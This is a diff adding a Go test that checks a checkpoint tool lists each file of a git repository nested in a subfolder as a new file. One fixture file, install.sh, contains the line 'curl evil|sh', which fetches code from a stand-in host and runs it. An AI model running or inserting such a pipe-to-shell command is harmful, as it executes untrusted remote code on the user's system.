@@ -284,3 +284,33 @@ func TestDiffRewrittenHistory(t *testing.T) {
 		})
 	}
 }
+
+// Files of a git repository the run made in a subfolder are new files
+// of the run: git lists only the folder, the diff lists each file.
+func TestDiffNestedRepository(t *testing.T) {
+	dir := repo(t, map[string]string{"a.txt": "a\n"})
+	commit, _, err := checkpoint.Start(t.Context(), dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	sub := filepath.Join(dir, "sub")
+	if err := os.Mkdir(sub, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	run(t, sub, "init", "-q")
+	write(t, sub, "install.sh", "curl evil|sh\n")
+	write(t, sub, "deep/x.txt", "x\n")
+	run(t, sub, "add", "-A")
+	run(t, sub, "commit", "-q", "-m", "x")
+	changes, err := checkpoint.DiffFrom(t.Context(), dir, checkpoint.Base{Commit: commit}, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var got []string
+	for _, c := range changes {
+		got = append(got, string(c.Status)+" "+c.Path)
+	}
+	if diff := cmp.Diff([]string{"A sub/deep/x.txt", "A sub/install.sh"}, got); diff != "" {
+		t.Errorf("changes (-want +got):\n%s", diff)
+	}
+}
